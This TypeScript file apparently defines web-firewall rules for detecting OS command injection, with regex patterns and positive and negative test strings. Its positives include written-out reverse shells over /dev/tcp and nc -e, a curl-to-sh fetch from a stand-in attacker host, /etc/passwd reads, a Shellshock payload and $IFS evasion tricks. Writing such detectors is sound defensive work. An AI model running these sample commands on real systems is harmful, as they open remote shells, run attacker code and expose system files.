import type { WafRule } from '../waf.types';
import { USER_INPUT } from './targets';

/**
 * OS command injection (CRS 932xxx). They read the `cmd` variant, the shell's own view:
 * quotes and backslashes gone, $IFS a space, so `c''at$IFS/etc/passwd` reads `cat /etc/passwd`.
 * A command word counts only right after a shell separator (; | & newline, backtick, $( ),
 * so "rock & roll" and "salt & pepper" stay quiet. Short words that are also English
 * (id, ls, ps, more ...) further need an option, a path, a separator or the end after them.
 */
const STRONG_COMMANDS =
  '(?:cat|tac|wget|curl|nc|ncat|netcat|socat|bash|zsh|ksh|dash|python[23]?|perl|ruby|php|node|nslookup|dig|ping|chmod|chown|rm|whoami|uname|ifconfig|ipconfig|printenv|base64|tftp|telnet|powershell|pwsh|cmd(?:\\.exe)?|certutil|bitsadmin|mkfifo|awk|gawk|sed|xxd|wc|nohup|useradd|crontab|systeminfo|tasklist|net\\s+(?:user|localgroup)|sh)';
const WEAK_COMMANDS = '(?:id|ls|ps|dir|env|echo|head|tail|more|less|find|touch|sleep|kill|type|whoami|hostname|passwd|pwd|set|ver|who|w|time|nl|od|cp|mv)';
const SEPARATOR = '(?:[;|&\\n`]|\\$\\(|\\|\\||&&)';
const PATH_PREFIX = '(?:(?:/usr)?(?:/local)?/s?bin/)?';

export const COMMAND_INJECTION_RULES: readonly WafRule[] = [
  {
    id: 932100,
    attackClass: 'command-injection',
    paranoiaLevel: 1,
    severity: 'critical',
    description: 'Unix or Windows command after a shell separator',
    targets: USER_INPUT,
    variant: 'cmd',
    patterns: [
      new RegExp(`${SEPARATOR}\\s*(?:sudo\\s+)?${PATH_PREFIX}${STRONG_COMMANDS}(?:$|[\\s;|&<>\`)(]|\\.exe)`),
      new RegExp(`${SEPARATOR}\\s*${PATH_PREFIX}${WEAK_COMMANDS}(?:\\s*$|\\s*[;|&\`)]|\\s+[-/$~.]|\\s+[a-z0-9_]+\\s*[;|&\`)])`),
    ],
    positives: ['; cat /etc/passwd', '| id', '1 && whoami', '`id`', '$(whoami)', "x; c'a't /etc/passwd", '127.0.0.1;ls -la', 'a|/bin/sh -i', '& ping -c 3 10.0.0.1 &', 'x%0Acat%20/etc/passwd', 'x;cat${IFS}/etc/passwd'],
    negatives: ['rock & roll', 'salt & pepper', 'B&W id card holder', 'Tom & Jerry; less is more', 'black | white', 'C++ primer'],
  },
  {
    id: 932110,
    attackClass: 'command-injection',
    paranoiaLevel: 1,
    severity: 'critical',
    description: 'Reverse shells and remote payload fetches',
    targets: USER_INPUT,
    variant: 'cmd',
    patterns: [/\/dev\/(?:tcp|udp)\/[\w.-]+\/\d+/, /\b(?:ba|z|k)?sh\s+-i\b/, /\bnc(?:at)?\s+(?:-[a-z]+\s+)*-e\s/, /\b(?:curl|wget)\s+(?:-[a-z]+\s+)*\S+\s*\|\s*(?:ba)?sh\b/, /\bmkfifo\s+\/tmp\//],
    positives: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'curl http://evil.example/x.sh | sh', 'mkfifo /tmp/f'],
    negatives: ['dev tcp guide', 'curl cream'],
  },
  {
    id: 932170,
    attackClass: 'command-injection',
    paranoiaLevel: 1,
    severity: 'critical',
    description: 'Shellshock function definition in a header or argument',
    targets: ['argValue', 'cookie', 'header', 'userAgent', 'referer'],
    variant: 'text',
    patterns: [/\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;/],
    positives: ['() { :; }; /bin/bash -c "id"', '() { :;}; echo vulnerable'],
    negatives: ['(smile) {happy}', 'f() is fine'],
  },
  {
    id: 932130,
    attackClass: 'command-injection',
    paranoiaLevel: 1,
    severity: 'critical',
    description: 'Shell expansion used to smuggle commands: $(...), ${IFS}, Windows %COMSPEC%',
    targets: USER_INPUT,
    variant: 'text',
    patterns: [/\$\{ifs\}|\$ifs\b/, /\$\(\s*[a-z/][^)]{0,100}\)/, /%comspec%|%systemroot%/],
    positives: ['a${IFS}b', '$(sleep 5)', 'cmd /c %COMSPEC%'],
    negatives: ['price $(10)', 'costs $5', "the `best` one"],
  },
];
